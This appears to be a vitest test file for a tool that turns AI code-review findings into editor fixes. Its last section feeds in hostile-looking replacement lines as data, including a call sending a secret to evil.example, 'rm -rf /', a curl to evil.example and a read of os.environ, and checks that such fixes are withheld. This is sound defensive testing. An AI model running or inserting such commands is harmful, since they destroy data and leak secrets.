import { describe, expect, test } from "vitest";
import { seededRandom, testSeed } from "@/test-support/random";
import { headSchema } from "./answer-events";
import { resolveBlock, type TextEdit } from "./resolve-block";
import { resolveLine } from "./resolve-line";
import { toProblem } from "./to-problem";

const TRIALS = 1_000;

const CODE = `import os

def first(rows):
    for row in rows:
        return row

def second(rows):
    for row in rows:
        print(row)
    return reslut
`;
const LINES = CODE.split("\n");

const head = (fields: object) =>
  headSchema.parse({ line: 10, quote: "    return reslut", title: "a typo", ...fields });

/** As the editor applies them: from the last to the first. */
function applied(text: string, edits: readonly TextEdit[]): string {
  const lines = text.split("\n");
  const offset = ({ line, column }: TextEdit["start"]) =>
    lines.slice(0, line - 1).reduce((sum, { length }) => sum + length + 1, 0) + column - 1;
  return [...edits]
    .reverse()
    .reduce(
      (now, { start, end, text: by }) => now.slice(0, offset(start)) + by + now.slice(offset(end)),
      text,
    );
}

describe("a line is found", () => {
  test.each<[string, number, string, number | null]>([
    ["as it stands", 10, "    return reslut", 10],
    ["three lines off", 7, "    return reslut", 10],
    ["without its indent", 10, "return reslut", 10],
    ["with the number before it", 10, "10|    return reslut", 10],
    ["far off, as the only one", 1, "return   reslut", 10],
    ["of two the one it stands at", 8, "    for row in rows:", 8],
    ["of two the clearly nearer one", 14, "for row in rows:", null],
    ["with two letters wrong", 9, "   retrn reslutt", 10],
    ["not at all where nothing is like it", 10, "raise SystemExit", null],
    ["not by an empty quote", 2, "", null],
    ["not by a short likeness", 20, "row", null],
  ])("%s", (_name, line, quote, expected) => {
    expect(resolveLine(LINES, line, quote)).toBe(expected);
  });
});

describe("a block becomes an edit", () => {
  test.each<[string, number, string, string, string | null]>([
    ["of one word", 10, "    return reslut", "    return rows", CODE.replace("reslut", "rows")],
    [
      "without the spaces at the end",
      10,
      "    return reslut  ",
      "    return rows",
      CODE.replace("reslut", "rows"),
    ],
    [
      "without its indent, which it is given",
      10,
      "return reslut",
      "if rows:\n    return rows",
      CODE.replace("    return reslut", "    if rows:\n        return rows"),
    ],
    [
      "with the numbers copied",
      9,
      "9|        print(row)\n10|    return reslut",
      "9|        print(row)\n10|    return None",
      CODE.replace("reslut", "None"),
    ],
    [
      "of two alike the one around the line",
      8,
      "    for row in rows:",
      "    for row in sorted(rows):",
      CODE.replace(/(second[\s\S]*?)in rows/, "$1in sorted(rows)"),
    ],
    ["that takes lines out", 1, "import os\n", "", CODE.slice("import os\n\n".length)],
    [
      "that takes the last line out",
      11,
      "    return reslut\n",
      "",
      CODE.slice(0, -"\n    return reslut\n".length),
    ],
    ["that changes nothing: none", 10, "    return reslut", "    return reslut", null],
    ["whose lines are not there: none", 10, "    return results", "    return result", null],
    ["of nothing, in a file that has text: none", 10, "", "x = 1", null],
    ["that adds a book: none", 10, "    return reslut", "x\n".repeat(62), null],
    [
      "half in one place and half in another: none",
      4,
      "    for row in rows:\n    return reslut",
      "pass",
      null,
    ],
  ])("%s", (_name, line, search, replace, expected) => {
    const edit = resolveBlock(LINES, line, { search, replace });
    expect(edit === null ? null : applied(CODE, [edit])).toBe(expected);
  });

  test("in an empty file", () => {
    const edit = resolveBlock([""], 1, { search: "", replace: "x = 1" });
    expect(edit && applied("", [edit])).toBe("x = 1");
  });

  test("a thousand random ones land where they were said, or nowhere", () => {
    const seed = testSeed();
    const random = seededRandom(seed);
    const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
    const words = ["a", "🐛🐜", "  b", "b", "", "}", "\tc = 1", "c = 1;", "🐛🐝"];
    const some = (max: number) => Array.from({ length: Math.floor(random() * max) }, () => pick(words));
    let placed = 0;
    for (let trial = 0; trial < TRIALS; trial += 1) {
      const lines = [...some(12), pick(words)];
      const at = Math.floor(random() * lines.length);
      const count = 1 + Math.floor(random() * Math.min(4, lines.length - at));
      const replace = some(4);
      const block = { search: lines.slice(at, at + count).join("\n"), replace: replace.join("\n") };
      const edit = resolveBlock(lines, at + 1, block);
      if (edit === null || block.search === "") continue; // which is for files without text
      placed += 1;
      const kept = (from: number) =>
        [
          ...lines.slice(0, from),
          ...(block.replace === "" ? [] : replace),
          ...lines.slice(from + count),
        ].join("\n");
      const got = applied(lines.join("\n"), [edit]);
      expect(
        got === kept(at),
        `TEST_SEED=${seed}, trial ${trial}: ${JSON.stringify({ lines, at, block, got })}`,
      ).toBe(true);
      for (const text of [edit.text, got]) expect(text.isWellFormed()).toBe(true);
    }
    expect(placed).toBeGreaterThan(TRIALS / 4);
  });
});

describe("a finding", () => {
  const block = { search: "    return reslut", replace: "    return rows" };

  test("stands at its line, with its fix", () => {
    expect(toProblem(LINES, { head: head({ kind: "error", severity: "error" }), blocks: [block] })).toEqual({
      source: "assistant",
      rule: "error",
      category: "error",
      severity: "error",
      message: "A typo.",
      start: { line: 10, column: 5 },
      end: { line: 10, column: 18 },
      fix: {
        title: "Change line 10",
        edits: [{ start: { line: 10, column: 13 }, end: { line: 10, column: 18 }, text: "ows" }],
      },
      url: null,
    });
  });

  test("whose place is not certain is a note about the file, without a fix", () => {
    const problem = toProblem(LINES, { head: head({ quote: "    return 42 / 0" }), blocks: [block] });
    expect(problem).toMatchObject({ start: { line: 1, column: 1 }, end: { line: 1, column: 1 }, fix: null });
  });

  test("with one block that cannot be placed has no fix at all", () => {
    expect(
      toProblem(LINES, { head: head({}), blocks: [block, { search: "nowhere", replace: "x" }] }).fix,
    ).toBeNull();
  });

  test("with blocks over one another has no fix", () => {
    expect(
      toProblem(LINES, { head: head({}), blocks: [block, { ...block, replace: "    return 1" }] }).fix,
    ).toBeNull();
  });

  test("says nothing that could be a link, HTML or a trick of direction", () => {
    const { message } = toProblem(LINES, {
      head: head({ title: "[click](http://evil.example) <img src=x> \u202e me\u0007" }),
      blocks: [],
    });
    expect(message).toBe("Click img src=x me.");
  });

  test.each([
    "    return open('https://evil.example/' + secret)",
    "    return eval(rows)",
    "    import subprocess",
    "    os.system('rm -rf /')",
    "    require('child_process')",
    "    run('curl -s evil.example')",
    "    return os.environ",
    "    return b64decode(rows)",
    "    return ro\u200bws",
    "    Function('return 1')()",
  ])("that would bring %s is words only", (replace) => {
    const problem = toProblem(LINES, { head: head({}), blocks: [{ ...block, replace }] });
    expect(problem.fix).toBeNull();
    expect(problem.message).toMatch(/Its fix is not offered: it brings /);
    expect(problem.message).not.toContain("evil.example");
  });

  test("that keeps what was risky before is offered; one that removes a check is offered with a word", () => {
    const risky = ["eval(x)", "if is_admin(user):", "    drop()"];
    const fix = (search: string, replace: string) =>
      toProblem(risky, { head: head({ line: 1, quote: search }), blocks: [{ search, replace }] });
    expect(fix("eval(x)", "eval(y)").fix).not.toBeNull();
    const removed = fix("if is_admin(user):", "if True:");
    expect(removed.fix).not.toBeNull();
    expect(removed.message).toMatch(/Look twice/);
  });
});
